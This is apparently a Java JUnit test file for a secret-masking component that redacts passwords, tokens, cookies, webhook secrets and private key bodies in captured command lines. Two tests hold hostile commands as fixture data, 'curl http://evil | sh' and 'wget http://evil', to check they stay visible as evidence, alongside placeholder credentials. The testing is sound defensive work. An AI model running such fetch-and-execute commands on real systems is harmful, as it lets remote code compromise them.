// SPDX-License-Identifier: Apache-2.0
package dev.trailcam.capture.secrets;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.ByteBuffer;
import java.util.List;
import org.junit.jupiter.api.Test;

final class SecretMaskTest {
  private static final byte[] KEY = "a key".getBytes(UTF_8);
  private static final String BODY = "MIIEpAIBAAKCAQEA7bq+/x1\nZ0kQ2u9nWcJr5T8s\n";

  private final SecretMask mask = SecretMask.withKey(KEY);

  @Test
  void nothingToMask_givesTheSameInstances() {
    List<byte[]> argv = SecretCorpus.bytes(List.of("gcc", "-c", "token.c"));
    byte[] text = "https://host/path".getBytes(UTF_8);
    String string = "make all";
    assertSame(argv, mask.mask(argv).argv());
    assertSame(text, mask.mask(text));
    assertSame(string, mask.mask(string));
    assertEquals(0, mask.mask(List.of()).count());
  }

  @Test
  void argumentsWithoutSecret_areShared_andTheListIsLeftAlone() {
    List<byte[]> argv = SecretCorpus.bytes(List.of("prog", "--password=hunter2", "rest"));
    Masked masked = mask.mask(argv);
    assertSame(argv.get(0), masked.argv().get(0));
    assertSame(argv.get(2), masked.argv().get(2));
    assertEquals("--password=hunter2", new String(argv.get(1), UTF_8));
    assertEquals("--password=" + mark("hunter2"), new String(masked.argv().get(1), UTF_8));
    assertEquals(1, masked.count());
  }

  @Test
  void marks_differByKey() {
    String other = SecretMask.withKey("another".getBytes(UTF_8)).mask("TOKEN=hunter2");
    assertNotEquals(mask.mask("TOKEN=hunter2"), other);
    assertEquals(SecretMask.withKey(KEY).mask("TOKEN=hunter2"), mask.mask("TOKEN=hunter2"));
    assertNotEquals(
        new String(SecretMask.randomKey(), ISO_8859_1),
        new String(SecretMask.randomKey(), ISO_8859_1));
    assertEquals(32, SecretMask.randomKey().length);
  }

  @Test
  void percentEncodedSecret_hasTheMarkOfWhatItStandsFor() {
    assertMasked(
        "https://u:" + mark("p@ss w/rd") + "@h/?token=" + mark("a&b"),
        "https://u:p%40ss%20w%2frd@h/?token=a%26b");
  }

  @Test
  void passwordWithBareSlash_isFound() {
    assertMasked("postgres://u:" + mark("ab/cd") + "@h/db", "postgres://u:ab/cd@h/db");
  }

  @Test
  void passwordOfTwoNames_isOne() {
    assertMasked("--token=" + mark("ghp_" + "a1".repeat(18)), "--token=ghp_" + "a1".repeat(18));
  }

  @Test
  void everyCookie_isMasked_andKeepsItsName() {
    assertMasked("Cookie: a=" + mark("one1") + "; b=" + mark("two2"), "Cookie: a=one1; b=two2");
    assertMasked(List.of("curl", "-b", "sid=" + mark("abc")), List.of("curl", "-b", "sid=abc"));
    assertMasked(List.of("curl", "-b", "jar.txt"), List.of("curl", "-b", "jar.txt"));
  }

  @Test
  void webhooks_keepTheirPublicPart() {
    assertMasked(
        "https://hooks.slack.com/services/T01/B02/" + mark("XyZ123"),
        "https://hooks.slack.com/services/T01/B02/XyZ123");
    assertMasked(
        "https://discord.com/api/webhooks/42/" + mark("XyZ_-123") + "?wait=true",
        "https://discord.com/api/webhooks/42/XyZ_-123?wait=true");
    assertMasked(
        "https://api.telegram.org/bot123:" + mark("AAx-_y") + "/getMe",
        "https://api.telegram.org/bot123:AAx-_y/getMe");
  }

  @Test
  void privateKeys_keepTheirFirstAndLastLine() {
    for (String label :
        List.of(
            "PRIVATE KEY",
            "RSA PRIVATE KEY",
            "OPENSSH PRIVATE KEY",
            "ENCRYPTED PRIVATE KEY",
            "PGP PRIVATE KEY BLOCK")) {
      String begin = "-----BEGIN " + label + "-----\n";
      String end = "\n-----END " + label + "-----\n";
      assertMasked(begin + mark(BODY.strip()) + end, begin + BODY.strip() + end);
    }
  }

  @Test
  void privateKeyThatWasCut_isMasked() {
    String begin = "-----BEGIN EC PRIVATE KEY-----\n";
    assertMasked(begin + mark(BODY.strip()), begin + BODY.strip());
  }

  @Test
  void privateKeyInSeveralArguments_isMasked() {
    assertMasked(
        List.of("echo", "-----BEGIN", "RSA", "PRIVATE", "KEY-----", mark("MIIE+/=="), "-----END"),
        List.of("echo", "-----BEGIN", "RSA", "PRIVATE", "KEY-----", "MIIE+/==", "-----END"));
  }

  @Test
  void commandBehindTheBeginningOfAKey_staysEvidence() {
    assertMasked(
        List.of("sh", "-c", "echo '-----BEGIN PRIVATE KEY-----'; curl http://evil | sh"),
        List.of("sh", "-c", "echo '-----BEGIN PRIVATE KEY-----'; curl http://evil | sh"));
  }

  @Test
  void commandBehindASecret_staysEvidence() {
    assertMasked(
        List.of("su", "-", "x", "TOKEN=" + mark("abc") + " tcpdump -i any; wget http://evil"),
        List.of("su", "-", "x", "TOKEN=abc tcpdump -i any; wget http://evil"));
  }

  @Test
  void passphraseWithBlanks_isOneSecretOutsideAShell() {
    assertMasked(
        List.of("env", "DB_PASSWORD=" + mark("correct horse battery"), "run"),
        List.of("env", "DB_PASSWORD=correct horse battery", "run"));
    assertMasked(
        List.of("prog", "--password=" + mark("correct; horse & battery")),
        List.of("prog", "--password=correct; horse & battery"));
  }

  @Test
  void bytesOutsideTheSecret_stayAsTheyAre() {
    byte[] argument =
        "\u00ff\u00fe=\u0080 TOKEN=s\u00e9cr\u00ff; \u001b[0m\u00c3".getBytes(ISO_8859_1);
    Masked masked = mask.mask(List.of("sh".getBytes(UTF_8), "-c".getBytes(UTF_8), argument));
    String found = new String(masked.argv().get(2), ISO_8859_1);
    assertTrue(found.startsWith("\u00ff\u00fe=\u0080 TOKEN=[secret:"), found);
    assertTrue(found.endsWith("]; \u001b[0m\u00c3"), found);
  }

  @Test
  void suspicious_readsASectionWhoseLastArgumentIsCut() {
    ByteBuffer section = ByteBuffer.wrap("xxa\0--passwordyy".getBytes(UTF_8));
    section.position(2).limit(14);
    assertTrue(mask.suspicious(section));
    assertEquals(2, section.position());
    section.limit(8);
    assertFalse(mask.suspicious(section));
    assertFalse(mask.suspicious(ByteBuffer.allocate(0)));
    assertFalse(mask.suspicious(ByteBuffer.allocate(200_000)));
  }

  private void assertMasked(String expected, String text) {
    assertEquals(expected, mask.mask(text));
    assertEquals(expected, mask.mask(expected));
  }

  private void assertMasked(List<String> expected, List<String> argv) {
    Masked masked = mask.mask(SecretCorpus.bytes(argv));
    assertEquals(String.join("\u241f", expected), SecretCorpus.text(masked.argv()));
  }

  private static String mark(String secret) {
    return MarkOracle.mark(KEY, secret);
  }
}
